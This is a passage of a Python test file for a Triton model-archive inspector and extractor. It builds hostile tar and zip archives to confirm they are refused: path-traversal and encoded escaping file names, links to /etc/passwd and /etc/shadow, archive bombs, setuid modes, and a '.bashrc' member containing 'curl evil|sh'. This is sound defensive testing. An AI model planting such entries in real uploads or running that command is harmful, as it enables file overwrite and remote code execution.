"""Inspecting and extracting uploaded Triton model archives (modelyard_agent.formats.archives).

Archives are built here with the tarfile and zipfile APIs, including hand-made hostile entries
that no well-behaved tool would write.
"""

import gzip
import hashlib
import io
import os
import random
import stat
import struct
import tarfile
import warnings
import zipfile
from pathlib import Path

import pytest

from demo.iris import build_iris_archive, build_iris_model_dir
from modelyard_agent.formats.archives import (
    ArchiveError,
    ArchiveLimits,
    TritonModelLayout,
    extract_version_dir,
    inspect_triton_archive,
    sha256_file,
)

MiB = 1024 * 1024
LIMITS = ArchiveLimits(max_unpacked_bytes=64 * MiB, max_compression_ratio=200, max_members=100)
CONFIG = b'name: "resnet"\nbackend: "onnxruntime"\nmax_batch_size: 8\n'
# Random bytes do not compress, so a well-formed test archive stays far below the ratio limit.
WEIGHTS = random.Random(7).randbytes(64 * 1024)
KINDS = ["tar.gz", "tar.xz", "tar", "zip"]
NOT_AN_ARCHIVE = "not a .tar.gz, .tar.xz, .tar or .zip archive"
CORRUPT = "archive is truncated or corrupt"


# --- Building archives ----------------------------------------------------------------------------


def model(root="", version="1"):
    """The members of a minimal model directory; a member is (name, data), data None for a directory."""
    return [(f"{root}config.pbtxt", CONFIG), (f"{root}{version}/model.onnx", WEIGHTS)]


def tar_member(name, data, mode=None):
    info = tarfile.TarInfo(name)
    if data is None:
        info.type = tarfile.DIRTYPE
        info.mode = 0o755 if mode is None else mode
        return info, None
    info.size = len(data)
    info.mode = 0o644 if mode is None else mode
    if "\x00" in name:
        # A ustar name field ends at the first NUL; a pax "path" record carries the whole name.
        info.pax_headers = {"path": name}
    return info, io.BytesIO(data)


def write_tar(path, members, compression="gz", extra=()):
    """Write a tar (gzip-compressed unless compression is None); extra holds ready-made (TarInfo, fileobj)."""
    with tarfile.open(path, f"w:{compression}" if compression else "w") as tar:
        for name, data in members:
            tar.addfile(*tar_member(name, data))
        for info, fileobj in extra:
            tar.addfile(info, fileobj)
    return path


def write_zip(path, members, compression=zipfile.ZIP_DEFLATED, extra=()):
    """Write a zip; extra holds ready-made (ZipInfo, data). Names with NUL bytes are patched in afterwards."""
    stand_ins = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names some tests need
        with zipfile.ZipFile(path, "w", compression) as archive:
            for name, data in members:
                if "\x00" in name:
                    # ZipInfo cuts a name at its first NUL, so write a same-length stand-in and swap it.
                    stand_in = name.replace("\x00", "#")
                    stand_ins[stand_in] = name
                    name = stand_in
                archive.writestr(name, b"" if data is None else data)
            for info, data in extra:
                archive.writestr(info, data)
    if stand_ins:
        raw = path.read_bytes()
        for stand_in, name in stand_ins.items():
            raw = raw.replace(stand_in.encode(), name.encode())
        path.write_bytes(raw)
    return path


def build(tmp_path, kind, members, filename=None):
    path = tmp_path / (filename or f"upload.{kind}")
    if kind == "zip":
        return write_zip(path, members)
    return write_tar(path, members, compression={"tar.gz": "gz", "tar.xz": "xz"}.get(kind))


def patch_zip_member(path, name, *, flag_bits=None, file_size=None):
    """Overwrite fields of one member in both its local header and its central-directory record."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(name).header_offset
        position = archive.start_dir
    while True:
        assert raw[position : position + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", raw, position + 28)
        if raw[position + 46 : position + 46 + name_len] == name.encode():
            central = position
            break
        position += 46 + name_len + extra_len + comment_len
    if flag_bits is not None:
        struct.pack_into("<H", raw, local + 6, flag_bits)
        struct.pack_into("<H", raw, central + 8, flag_bits)
    if file_size is not None:
        struct.pack_into("<I", raw, local + 22, file_size)
        struct.pack_into("<I", raw, central + 24, file_size)
    path.write_bytes(bytes(raw))


def truncate(path, keep_fraction):
    raw = path.read_bytes()
    path.write_bytes(raw[: int(len(raw) * keep_fraction)])


def refusal(path, limits=LIMITS):
    with pytest.raises(ArchiveError) as excinfo:
        inspect_triton_archive(path, limits)
    return str(excinfo.value)


def tree(root):
    """Every path under root, relative and sorted, directories with a trailing slash."""
    return sorted(str(path.relative_to(root)) + ("/" if path.is_dir() else "") for path in Path(root).rglob("*"))


def kind_of(kind):
    return "zip" if kind == "zip" else "tar"


# --- Accepted layouts -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_it_accepts_a_model_directory_at_the_archive_root(tmp_path, kind):
    path = build(tmp_path, kind, model())

    layout = inspect_triton_archive(path, LIMITS)

    assert layout == TritonModelLayout(
        kind=kind_of(kind),
        model_root="",
        config_text=CONFIG.decode(),
        version_dir="1",
        files=("model.onnx",),
        unpacked_bytes=len(CONFIG) + len(WEIGHTS),
    )


@pytest.mark.parametrize("kind", KINDS)
def test_it_accepts_a_single_top_directory_that_holds_the_model(tmp_path, kind):
    members = [("resnet/", None), ("resnet/3/", None), *model(root="resnet/", version="3")]
    path = build(tmp_path, kind, members)

    layout = inspect_triton_archive(path, LIMITS)

    assert (layout.kind, layout.model_root, layout.version_dir, layout.files) == (
        kind_of(kind),
        "resnet/",
        "3",
        ("model.onnx",),
    )


def test_it_detects_the_format_from_the_content_not_the_file_name(tmp_path):
    gzipped_tar = write_tar(tmp_path / "model.zip", model())
    zipped = write_zip(tmp_path / "model.tar.gz", model())
    plain_tar = write_tar(tmp_path / "upload.bin", model(), compression=None)

    kinds = [inspect_triton_archive(path, LIMITS).kind for path in (gzipped_tar, zipped, plain_tar)]

    assert kinds == ["tar", "zip", "tar"]


def test_it_accepts_members_written_with_a_leading_dot_slash(tmp_path):
    # What `tar -C model_dir -czf upload.tgz .` writes.
    members = [(".", None), ("./config.pbtxt", CONFIG), ("./1", None), ("./1/model.onnx", WEIGHTS)]
    path = write_tar(tmp_path / "upload.tgz", members)

    layout = inspect_triton_archive(path, LIMITS)

    assert (layout.model_root, layout.version_dir, layout.files) == ("", "1", ("model.onnx",))


def test_it_lists_nested_version_files_sorted_with_their_total_size(tmp_path):
    files = {"1/model.py": b"import triton\n", "1/lib/helpers.py": b"x = 1\n", "1/assets/vocab/en.txt": b"a\nb\n"}
    path = write_tar(tmp_path / "upload.tgz", [("config.pbtxt", CONFIG), *files.items()])

    layout = inspect_triton_archive(path, LIMITS)

    assert layout.files == ("assets/vocab/en.txt", "lib/helpers.py", "model.py")
    assert layout.unpacked_bytes == len(CONFIG) + sum(len(data) for data in files.values())


def test_it_accepts_the_demo_iris_archive(tmp_path):
    path = build_iris_archive(tmp_path / "iris.tar.gz")
    expected_config = (build_iris_model_dir(tmp_path / "dir") / "config.pbtxt").read_text()

    layout = inspect_triton_archive(path, LIMITS)

    assert (layout.model_root, layout.version_dir, layout.config_text) == ("iris/", "1", expected_config)
    assert "model.onnx" in layout.files


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_ignores_macos_junk_and_pycache_directories(tmp_path, kind):
    junk = [
        ("__MACOSX/resnet/._config.pbtxt", b"\x00\x05\x16\x07"),
        ("__MACOSX/resnet/1/._model.onnx", b"\x00\x05\x16\x07"),
        (".DS_Store", b"Bud1"),
        ("resnet/.DS_Store", b"Bud1"),
        ("resnet/1/._model.onnx", b"\x00\x05\x16\x07"),
        ("resnet/1/__pycache__/model.cpython-311.pyc", b"\xa7\r\r\n"),
    ]
    path = build(tmp_path, kind, [*model(root="resnet/"), *junk])

    layout = inspect_triton_archive(path, LIMITS)
    extract_version_dir(path, layout, tmp_path / "out", LIMITS)

    assert (layout.model_root, layout.files) == ("resnet/", ("model.onnx",))
    assert tree(tmp_path / "out") == ["model.onnx"]


def test_it_accepts_percent_signs_that_decode_to_harmless_names(tmp_path):
    names = ["1/weights%20v2.bin", "1/100%.txt", "1/a%2Fb.txt"]
    path = write_zip(tmp_path / "upload.zip", [("config.pbtxt", CONFIG), *((name, b"x") for name in names)])

    layout = inspect_triton_archive(path, LIMITS)

    assert layout.files == ("100%.txt", "a%2Fb.txt", "weights%20v2.bin")


# --- Unsafe member names --------------------------------------------------------------------------

ESCAPING_NAMES = [
    pytest.param("../evil.py", "climbs out", id="dot-dot"),
    pytest.param("1/../../evil.py", "climbs out", id="dot-dot-inside-the-version-dir"),
    pytest.param("/etc/cron.d/evil", "absolute path", id="absolute"),
    pytest.param("C:\\evil.py", "absolute path", id="windows-drive-and-backslash"),
    pytest.param("C:/evil.py", "absolute path", id="windows-drive-and-slash"),
    pytest.param("\\\\server\\share\\evil.py", "absolute path", id="unc-path"),
    pytest.param("1\\..\\..\\evil.py", "backslash", id="backslash-separators"),
    pytest.param("1/%2e%2e/%2e%2e/evil.py", "percent-encoding", id="percent-encoded-dot-dot"),
    pytest.param("1/%2E%2E%2F%2E%2E%2Fevil.py", "percent-encoding", id="percent-encoded-dot-dot-slash"),
    pytest.param("1/%252e%252e/%252e%252e/evil.py", "percent-encoding", id="double-percent-encoded-dot-dot"),
    pytest.param("%2Fetc%2Fcron.d%2Fevil", "percent-encoding", id="percent-encoded-absolute"),
    pytest.param("1/%5c..%5cevil.py", "percent-encoding", id="percent-encoded-backslash"),
    pytest.param("1/model.onnx\x00.txt", "NUL byte", id="nul-byte"),
    pytest.param("1/model.onnx%00.txt", "percent-encoding", id="percent-encoded-nul-byte"),
    pytest.param("1/model\n.onnx", "control character", id="newline"),
    pytest.param("1/model\x1b[2J.onnx", "control character", id="terminal-escape"),
    pytest.param("1/model\x7f.onnx", "control character", id="delete"),
]


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
@pytest.mark.parametrize(("name", "reason"), ESCAPING_NAMES)
def test_it_refuses_a_member_whose_name_could_escape_the_destination(tmp_path, kind, name, reason):
    path = build(tmp_path, kind, [*model(), (name, b"import os\n")])

    message = refusal(path)

    assert repr(name) in message
    assert reason in message


def test_it_refuses_a_member_that_climbs_out_with_dot_dot(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [*model(), ("1/../../../home/triton/.bashrc", b"curl evil|sh\n")])

    assert refusal(path) == ("member '1/../../../home/triton/.bashrc' climbs out of the archive with a '..' component")


def test_it_refuses_an_escaping_name_even_inside_ignored_junk(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [*model(), ("__MACOSX/../../evil", b"x")])

    assert "climbs out" in refusal(path)


def test_it_refuses_a_path_component_longer_than_a_filesystem_allows(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [*model(), ("1/" + "w" * 256, b"x")])

    assert "longer than 255 bytes" in refusal(path)


# --- Links, special files, encryption -------------------------------------------------------------


@pytest.mark.parametrize(
    ("tar_type", "reason"),
    [
        pytest.param(tarfile.SYMTYPE, "symbolic link", id="symlink"),
        pytest.param(tarfile.LNKTYPE, "hard link", id="hardlink"),
        pytest.param(tarfile.CHRTYPE, "device file", id="character-device"),
        pytest.param(tarfile.BLKTYPE, "device file", id="block-device"),
        pytest.param(tarfile.FIFOTYPE, "FIFO", id="fifo"),
    ],
)
def test_it_refuses_links_and_special_files_in_a_tar(tmp_path, tar_type, reason):
    info = tarfile.TarInfo("1/weights.bin")
    info.type = tar_type
    info.linkname = "/etc/passwd"
    path = write_tar(tmp_path / "upload.tgz", model(), extra=[(info, None)])

    message = refusal(path)

    assert "'1/weights.bin'" in message
    assert reason in message


@pytest.mark.parametrize(
    ("file_type", "reason"),
    [
        pytest.param(stat.S_IFLNK, "symbolic link", id="symlink"),
        pytest.param(stat.S_IFCHR, "device file", id="character-device"),
        pytest.param(stat.S_IFBLK, "device file", id="block-device"),
        pytest.param(stat.S_IFIFO, "FIFO", id="fifo"),
        pytest.param(stat.S_IFSOCK, "not a regular file", id="socket"),
    ],
)
def test_it_refuses_a_zip_member_whose_unix_mode_marks_a_special_file(tmp_path, file_type, reason):
    info = zipfile.ZipInfo("1/weights.bin")
    info.external_attr = (file_type | 0o777) << 16
    path = write_zip(tmp_path / "upload.zip", model(), extra=[(info, b"/etc/passwd")])

    message = refusal(path)

    assert "'1/weights.bin'" in message
    assert reason in message


def test_it_refuses_a_symlink_even_inside_ignored_junk(tmp_path):
    info = tarfile.TarInfo("resnet/1/__pycache__/model.pyc")
    info.type = tarfile.SYMTYPE
    info.linkname = "/etc/shadow"
    path = write_tar(tmp_path / "upload.tgz", model(root="resnet/"), extra=[(info, None)])

    assert "symbolic link" in refusal(path)


def test_it_refuses_an_encrypted_zip_member(tmp_path):
    path = write_zip(tmp_path / "upload.zip", model())
    patch_zip_member(path, "1/model.onnx", flag_bits=0x1)

    assert refusal(path) == "member '1/model.onnx' is encrypted; encrypted archives are not supported"


# --- Duplicates and clashes -----------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_it_refuses_a_member_that_appears_twice(tmp_path, kind):
    path = build(tmp_path, kind, [*model(), ("1/model.onnx", b"a different model")])

    assert refusal(path) == "member '1/model.onnx' appears more than once"


@pytest.mark.parametrize(
    ("first", "second"),
    [
        pytest.param("1/Model.onnx", "1/model.onnx", id="letter-case"),
        pytest.param("1/caf\u00e9.txt", "1/cafe\u0301.txt", id="unicode-composed-and-decomposed"),
        pytest.param("1/Lib/a.py", "1/lib/a.py", id="letter-case-of-a-directory"),
    ],
)
def test_it_refuses_paths_that_differ_only_in_case_or_unicode_form(tmp_path, first, second):
    path = write_zip(tmp_path / "upload.zip", [("config.pbtxt", CONFIG), (first, b"a"), (second, b"b")])

    assert "differ only in letter case or Unicode form" in refusal(path)


def test_it_refuses_a_file_that_is_also_used_as_a_directory(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [*model(), ("1/lib", b"x"), ("1/lib/helpers.py", b"y")])

    assert refusal(path) == "member '1/lib' is a file, but '1/lib/helpers.py' is stored inside it"


def test_it_refuses_a_directory_entry_and_a_file_with_the_same_path(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [*model(), ("1/lib/", None), ("1/lib", b"x")])

    assert refusal(path) == "member '1/lib' is both a file and a directory"


# --- Limits and bombs -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_refuses_more_members_than_the_limit(tmp_path, kind):
    members = [*model(), ("1/a.bin", b"a"), ("1/b.bin", b"b")]
    path = build(tmp_path, kind, members)
    limits = ArchiveLimits(max_unpacked_bytes=64 * MiB, max_compression_ratio=200, max_members=3)

    assert refusal(path, limits) == "archive holds more than 3 members"


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_refuses_an_archive_that_unpacks_to_more_than_the_limit(tmp_path, kind):
    path = build(tmp_path, kind, model())
    limits = ArchiveLimits(max_unpacked_bytes=32 * 1024, max_compression_ratio=200, max_members=100)

    assert refusal(path, limits).startswith("archive unpacks to more than 32768 bytes")


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_refuses_an_archive_bomb_by_compression_ratio(tmp_path, kind):
    # 32 MiB of zeros deflate to about 32 KiB: a ratio near 1000:1.
    path = build(tmp_path, kind, [("config.pbtxt", CONFIG), ("1/model.onnx", bytes(32 * MiB))])

    message = refusal(path)

    assert "above the 200:1 compression-ratio limit" in message
    assert "archive bomb" in message


def test_it_refuses_a_tar_member_declaring_a_terabyte_before_reading_its_data(tmp_path):
    info = tarfile.TarInfo("1/model.onnx")
    info.size = 1 << 40
    path = tmp_path / "upload.tgz"
    with gzip.open(path, "wb") as stream:
        stream.write(tarfile.TarInfo("config.pbtxt").tobuf())  # an empty config
        stream.write(info.tobuf(tarfile.GNU_FORMAT) + bytes(1024))

    assert refusal(path).startswith(f"archive unpacks to more than {64 * MiB} bytes")


# --- Model layout ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_it_refuses_an_archive_without_config_pbtxt(tmp_path, kind):
    path = build(tmp_path, kind, [("resnet/1/model.onnx", WEIGHTS)])

    assert refusal(path) == "no config.pbtxt in the model directory 'resnet/'"


def test_it_refuses_a_lone_version_directory_as_missing_its_config(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [("1/model.onnx", WEIGHTS)])

    assert refusal(path) == "no config.pbtxt in the archive root"


def test_it_refuses_two_version_directories(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [*model(), ("2/model.onnx", WEIGHTS)])

    assert refusal(path) == "found version directories 1, 2: an archive holds exactly one"


def test_it_refuses_a_model_directory_without_a_version_directory(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [("resnet/config.pbtxt", CONFIG)])

    assert refusal(path) == "no version directory in the model directory 'resnet/': it needs exactly one, such as 1/"


@pytest.mark.parametrize(
    "members",
    [
        pytest.param([("config.pbtxt", CONFIG), ("1/", None)], id="only-a-directory-entry"),
        pytest.param([("config.pbtxt", CONFIG), ("1/sub/", None)], id="only-empty-subdirectories"),
        pytest.param([("config.pbtxt", CONFIG), ("1/__pycache__/model.pyc", b"x")], id="only-ignored-junk"),
    ],
)
def test_it_refuses_an_empty_version_directory(tmp_path, members):
    path = write_zip(tmp_path / "upload.zip", members)

    assert refusal(path) == "version directory '1/' holds no files"


@pytest.mark.parametrize("version", ["0", "01", "007", "99999999999999999999"])
def test_it_refuses_a_version_directory_that_is_not_a_plain_positive_integer(tmp_path, version):
    path = write_tar(tmp_path / "upload.tgz", model(version=version))

    assert refusal(path) == (
        f"version directory {version!r} must be a positive integer without leading zeros, such as 1"
    )


def test_it_refuses_a_version_directory_that_is_a_file(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [("config.pbtxt", CONFIG), ("1", WEIGHTS)])

    assert refusal(path) == "'1' is a file; the version directory must be a directory"


@pytest.mark.parametrize(
    ("extra", "named"),
    [
        pytest.param(("labels.txt", b"cat\ndog\n"), "'labels.txt'", id="file-next-to-config"),
        pytest.param(("notes/readme.md", b"hi"), "'notes'", id="directory-next-to-config"),
        pytest.param(("v1/model.onnx", WEIGHTS), "'v1'", id="non-numeric-version-directory"),
    ],
)
def test_it_refuses_an_unexpected_entry_in_the_model_directory(tmp_path, extra, named):
    path = write_tar(tmp_path / "upload.tgz", [*model(), extra])

    message = refusal(path)

    assert message.startswith(f"unexpected entry {named} in the archive root")


def test_it_refuses_a_stray_file_next_to_the_top_directory(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [*model(root="resnet/"), ("README.md", b"hello")])

    assert refusal(path).startswith("unexpected entry 'README.md' in the archive root")


def test_it_refuses_two_top_level_model_directories(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [*model(root="a/"), *model(root="b/")])

    assert refusal(path).startswith("unexpected entry 'a' in the archive root")


def test_it_refuses_an_entry_named_after_the_config_that_is_a_directory(tmp_path):
    path = write_zip(tmp_path / "upload.zip", [("config.pbtxt/x", b"x"), ("1/model.onnx", WEIGHTS)])

    assert refusal(path) == "'config.pbtxt' must be a file, not a directory"


def test_it_refuses_a_config_that_is_not_utf8(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [("config.pbtxt", b'name: "r\xe9snet"\n'), ("1/model.onnx", WEIGHTS)])

    assert refusal(path).startswith("'config.pbtxt' is not valid UTF-8 text")


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_refuses_a_config_larger_than_one_mebibyte(tmp_path, kind):
    big_config = random.Random(3).randbytes(MiB // 2).hex().encode() + b"\n"
    path = build(tmp_path, kind, [("config.pbtxt", big_config), ("1/model.onnx", WEIGHTS)])

    assert refusal(path) == "'config.pbtxt' is larger than 1048576 bytes (1 MiB)"


def test_it_refuses_an_archive_without_files(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [("__MACOSX/._resnet", b"junk")])

    assert refusal(path) == "archive holds no files"


# --- Not an archive, truncated, corrupt -----------------------------------------------------------


@pytest.mark.parametrize(
    "write",
    [
        pytest.param(lambda path: path.write_bytes(random.Random(1).randbytes(4096)), id="random-bytes"),
        pytest.param(lambda path: path.write_text('name: "resnet"\n'), id="a-bare-config"),
        pytest.param(lambda path: path.write_bytes(b""), id="empty-file"),
        pytest.param(lambda path: write_tar(path, model(), compression="bz2"), id="bzip2-tar"),
        pytest.param(lambda path: path.write_bytes(gzip.compress(b"not a tar\n" * 100)), id="gzip-without-a-tar"),
    ],
)
def test_it_refuses_a_file_that_is_not_a_supported_archive(tmp_path, write):
    path = tmp_path / "upload.tar.gz"
    write(path)

    assert refusal(path).startswith(NOT_AN_ARCHIVE)


# A plain tar cut inside its trailing padding loses nothing, so it is only cut where data is lost.
TRUNCATIONS = [
    pytest.param(kind, keep_fraction, id=f"{kind}-keeping-{keep_fraction}")
    for kind in KINDS
    for keep_fraction in (0.1, 0.5, 0.9, 0.999)
    if not (kind == "tar" and keep_fraction > 0.9)
]


@pytest.mark.parametrize(("kind", "keep_fraction"), TRUNCATIONS)
def test_it_reports_a_truncated_archive_as_truncated_or_corrupt(tmp_path, kind, keep_fraction):
    path = build(tmp_path, kind, model())
    truncate(path, keep_fraction)

    assert refusal(path).startswith(CORRUPT)


def test_it_reports_a_tar_without_its_end_of_archive_marker_as_truncated(tmp_path):
    path = write_tar(tmp_path / "upload.tar", model(), compression=None)
    # Cut exactly after the last member's data: every header still parses.
    with tarfile.open(path) as tar:
        last = tar.getmembers()[-1]
    path.write_bytes(path.read_bytes()[: last.offset_data + len(WEIGHTS)])

    assert refusal(path) == f"{CORRUPT}: the tar end-of-archive marker is missing"


def test_it_reports_a_damaged_gzip_stream_as_corrupt(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", model())
    raw = bytearray(path.read_bytes())
    middle = len(raw) // 2
    raw[middle : middle + 16] = bytes(byte ^ 0xFF for byte in raw[middle : middle + 16])
    path.write_bytes(bytes(raw))

    assert refusal(path).startswith(CORRUPT)


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
@pytest.mark.parametrize("seed", range(25))
def test_it_answers_random_damage_with_an_archive_error_or_a_sound_layout(tmp_path, kind, seed):
    path = build(tmp_path, kind, [("resnet/", None), *model(root="resnet/"), ("resnet/1/extra.py", b"x = 1\n" * 50)])
    rng = random.Random(seed)
    raw = bytearray(path.read_bytes())
    for _ in range(rng.randint(1, 4)):
        raw[rng.randrange(len(raw))] = rng.randrange(256)
    path.write_bytes(bytes(raw))
    dest = tmp_path / "out"

    try:
        layout = inspect_triton_archive(path, LIMITS)
        extract_version_dir(path, layout, dest, LIMITS)
    except ArchiveError:
        assert not dest.exists()
    else:
        assert tree(dest)


# --- Extraction -----------------------------------------------------------------------------------


@pytest.fixture
def strict_umask():
    """A umask that would leave 0o700 directories and 0o600 files unless extraction sets modes itself."""
    previous = os.umask(0o077)
    yield
    os.umask(previous)


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_it_extracts_only_the_version_files_with_fixed_permissions(tmp_path, kind, strict_umask):
    helpers = b"def predict(x):\n    return x\n"
    members = [*model(root="resnet/"), ("resnet/1/lib/helpers.py", helpers)]
    path = tmp_path / f"upload.{kind}"
    if kind == "zip":
        setuid = zipfile.ZipInfo("resnet/1/run.sh")
        setuid.external_attr = (stat.S_IFREG | 0o4777) << 16
        write_zip(path, members, extra=[(setuid, b"#!/bin/sh\n")])
    else:
        setuid, data = tar_member("resnet/1/run.sh", b"#!/bin/sh\n", mode=0o4777)
        write_tar(path, members, extra=[(setuid, data)])
    dest = tmp_path / "models" / "resnet" / "1"
    dest.parent.mkdir(parents=True)

    layout = inspect_triton_archive(path, LIMITS)
    written = extract_version_dir(path, layout, dest, LIMITS)

    assert tree(dest) == ["lib/", "lib/helpers.py", "model.onnx", "run.sh"]
    assert (dest / "model.onnx").read_bytes() == WEIGHTS
    assert (dest / "lib" / "helpers.py").read_bytes() == helpers
    assert written == len(WEIGHTS) + len(helpers) + len(b"#!/bin/sh\n")
    modes = {
        name: stat.S_IMODE((dest / name).lstat().st_mode)
        for name in (".", "lib", "lib/helpers.py", "model.onnx", "run.sh")
    }
    assert modes == {".": 0o755, "lib": 0o755, "lib/helpers.py": 0o644, "model.onnx": 0o644, "run.sh": 0o644}


def test_it_extracts_a_multi_mebibyte_member_intact(tmp_path):
    weights = random.Random(11).randbytes(5 * MiB + 123)
    path = write_tar(tmp_path / "upload.tgz", [("config.pbtxt", CONFIG), ("1/model.onnx", weights)])

    layout = inspect_triton_archive(path, LIMITS)
    written = extract_version_dir(path, layout, tmp_path / "out", LIMITS)

    assert written == len(weights)
    assert sha256_file(tmp_path / "out" / "model.onnx") == (hashlib.sha256(weights).hexdigest(), len(weights))


def test_it_refuses_to_extract_into_an_existing_destination(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", model())
    layout = inspect_triton_archive(path, LIMITS)
    dest = tmp_path / "out"
    dest.mkdir()
    (dest / "keep.txt").write_text("mine")

    with pytest.raises(FileExistsError):
        extract_version_dir(path, layout, dest, LIMITS)

    assert tree(dest) == ["keep.txt"]


def test_it_needs_the_parent_of_the_destination_to_exist(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", model())
    layout = inspect_triton_archive(path, LIMITS)

    with pytest.raises(FileNotFoundError):
        extract_version_dir(path, layout, tmp_path / "missing" / "out", LIMITS)

    assert not (tmp_path / "missing").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_it_removes_the_destination_when_the_archive_was_truncated_after_inspection(tmp_path, kind):
    path = build(tmp_path, kind, [("config.pbtxt", CONFIG), ("1/a.bin", WEIGHTS), ("1/b.bin", WEIGHTS)])
    layout = inspect_triton_archive(path, LIMITS)
    truncate(path, 0.8)
    dest = tmp_path / "out"

    with pytest.raises(ArchiveError, match=CORRUPT):
        extract_version_dir(path, layout, dest, LIMITS)

    assert not dest.exists()


def test_it_removes_the_destination_when_a_member_fails_its_checksum_midway(tmp_path):
    weights = random.Random(5).randbytes(3 * MiB)
    path = write_zip(
        tmp_path / "upload.zip", [("config.pbtxt", CONFIG), ("1/model.onnx", weights)], compression=zipfile.ZIP_STORED
    )
    layout = inspect_triton_archive(path, LIMITS)
    raw = bytearray(path.read_bytes())
    raw[2 * MiB] ^= 0xFF  # inside the stored data, so only the CRC can tell
    path.write_bytes(bytes(raw))
    dest = tmp_path / "out"

    with pytest.raises(ArchiveError, match="Bad CRC-32"):
        extract_version_dir(path, layout, dest, LIMITS)

    assert not dest.exists()


def test_it_never_writes_more_than_a_zip_member_declares(tmp_path):
    path = write_zip(tmp_path / "upload.zip", model(), compression=zipfile.ZIP_STORED)
    layout = inspect_triton_archive(path, LIMITS)
    patch_zip_member(path, "1/model.onnx", file_size=1000)
    dest = tmp_path / "out"

    # Inspection decodes each zip member, so it refuses the lie at upload ...
    with pytest.raises(ArchiveError, match=CORRUPT):
        inspect_triton_archive(path, LIMITS)
    # ... and extraction on the host refuses it too, had the archive changed after inspection.
    with pytest.raises(ArchiveError, match=CORRUPT):
        extract_version_dir(path, layout, dest, LIMITS)
    assert not dest.exists()


def test_it_stops_extracting_once_the_total_passes_the_limit(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", [("config.pbtxt", CONFIG), ("1/a.bin", WEIGHTS), ("1/b.bin", WEIGHTS)])
    layout = inspect_triton_archive(path, LIMITS)
    tighter = ArchiveLimits(max_unpacked_bytes=100 * 1024, max_compression_ratio=200, max_members=100)
    dest = tmp_path / "out"

    with pytest.raises(ArchiveError, match="unpacks to more than 102400 bytes"):
        extract_version_dir(path, layout, dest, tighter)

    assert not dest.exists()


@pytest.mark.parametrize(
    ("replacement", "reason"),
    [
        pytest.param([*model(), ("1/backdoor.py", b"import os\n")], "member '1/backdoor.py' is new", id="file-added"),
        pytest.param([("config.pbtxt", CONFIG), ("1/other.onnx", WEIGHTS)], "is new", id="file-renamed"),
        pytest.param([("config.pbtxt", CONFIG), ("1/", None)], "member 'model.onnx' is gone", id="file-removed"),
    ],
)
def test_it_refuses_to_extract_an_archive_that_changed_since_inspection(tmp_path, replacement, reason):
    path = write_tar(tmp_path / "upload.tgz", model())
    layout = inspect_triton_archive(path, LIMITS)
    write_tar(path, replacement)
    dest = tmp_path / "out"

    with pytest.raises(ArchiveError, match="changed since it was inspected") as excinfo:
        extract_version_dir(path, layout, dest, LIMITS)

    assert reason in str(excinfo.value)
    assert not dest.exists()


def test_it_rechecks_every_member_while_extracting(tmp_path):
    path = write_tar(tmp_path / "upload.tgz", model())
    layout = inspect_triton_archive(path, LIMITS)
    link = tarfile.TarInfo("1/model.onnx.link")
    link.type = tarfile.SYMTYPE
    link.linkname = "/etc/passwd"
    write_tar(path, model(), extra=[(link, None)])
    dest = tmp_path / "out"

    with pytest.raises(ArchiveError, match="symbolic link"):
        extract_version_dir(path, layout, dest, LIMITS)

    assert not dest.exists()


# --- Limits from settings, hashing ----------------------------------------------------------------


def test_it_reads_the_archive_limits_from_django_settings(settings):
    settings.MAX_UNPACKED_BYTES = 5 * MiB
    settings.MAX_COMPRESSION_RATIO = 50
    settings.MAX_ARCHIVE_MEMBERS = 12

    from registry.formats import archive_limits

    limits = archive_limits()
    assert limits == ArchiveLimits(max_unpacked_bytes=5 * MiB, max_compression_ratio=50, max_members=12)
    assert ArchiveLimits.from_payload(limits.as_payload()) == limits


@pytest.mark.parametrize("bad", [0, -1, 1.5, True])
def test_it_refuses_limits_that_are_not_positive_integers(bad):
    with pytest.raises(ValueError, match="max_members must be a positive integer"):
        ArchiveLimits(max_unpacked_bytes=MiB, max_compression_ratio=100, max_members=bad)


@pytest.mark.parametrize("chunk_size", [1 << 20, 4099])
def test_it_hashes_a_multi_mebibyte_file_like_hashlib(tmp_path, chunk_size):
    data = random.Random(13).randbytes(3 * MiB + 321)
    path = tmp_path / "model.onnx"
    path.write_bytes(data)

    assert sha256_file(path, chunk_size=chunk_size) == (hashlib.sha256(data).hexdigest(), len(data))


def test_it_hashes_an_empty_file(tmp_path):
    path = tmp_path / "empty"
    path.write_bytes(b"")

    assert sha256_file(path) == (hashlib.sha256(b"").hexdigest(), 0)


def test_it_accepts_a_small_archive_whatever_its_compression_ratio(tmp_path):
    import io
    import tarfile

    path = tmp_path / "small.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
